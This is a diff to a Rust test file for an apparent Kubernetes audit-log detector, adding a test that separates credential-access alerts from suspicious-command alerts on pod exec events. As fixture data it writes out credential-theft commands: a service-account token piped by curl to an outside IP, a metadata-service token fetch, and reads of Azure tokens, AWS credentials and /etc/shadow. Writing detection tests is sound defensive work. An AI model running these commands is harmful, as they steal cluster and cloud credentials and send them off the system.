@@ -796,7 +796,7 @@ fn alert_follows_the_contract() {
         .impersonating("bob")
         .exec(&["cat", "/etc/shadow\nx"])
         .build();
-    // Reading /etc/shadow also raises the suspicious-command rule; this test is about pod_exec.
+    // Reading /etc/shadow also raises the credential-access rule; this test is about pod_exec.
     let alerts: Vec<_> = alerts_for(&event)
         .into_iter()
         .filter(|alert| alert.rule_id == "k8s.pod_exec")
@@ -856,4 +856,47 @@ fn builtin_summaries_render_without_placeholders() {
     for id in CONTRACT_RULE_IDS {
         assert!(seen.contains(*id), "{id} did not fire");
     }
+}
+
+#[test]
+fn an_exec_reading_credentials_raises_one_command_alert() {
+    let exec = |command: &[&str]| {
+        audit("create", "pods")
+            .subresource("exec")
+            .name("web-0")
+            .stage("ResponseStarted")
+            .code(101)
+            .exec(command)
+    };
+    let credentials = "k8s.exec_credential_access";
+    let suspicious = "k8s.exec_suspicious_command";
+    // A token read piped into a download is the credential rule's alone.
+    check(
+        exec(&[
+            "sh",
+            "-c",
+            "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.9/t",
+        ]),
+        &["k8s.pod_exec", credentials],
+    );
+    check(
+        exec(&["wget", "-qO-", "http://[fd00:ec2::254]/latest/api/token"]),
+        &["k8s.pod_exec", credentials],
+    );
+    check(
+        exec(&["cat", "/var/run/secrets/azure/tokens/azure-identity-token"]),
+        &["k8s.pod_exec", credentials],
+    );
+    // A download without credentials stays the suspicious-command rule's.
+    check(
+        exec(&["curl", "-s", "http://203.0.113.9/x.sh"]),
+        &["k8s.pod_exec", suspicious],
+    );
+    // The ResponseComplete record of a session, judged on its own, alerts too (pod_exec keeps
+    // to the session's first record).
+    check(
+        exec(&["cat", "/root/.aws/credentials"]).stage("ResponseComplete"),
+        &[credentials],
+    );
+    check(exec(&["cat", "/root/.aws/credentials"]).denied(), &[]);
 }
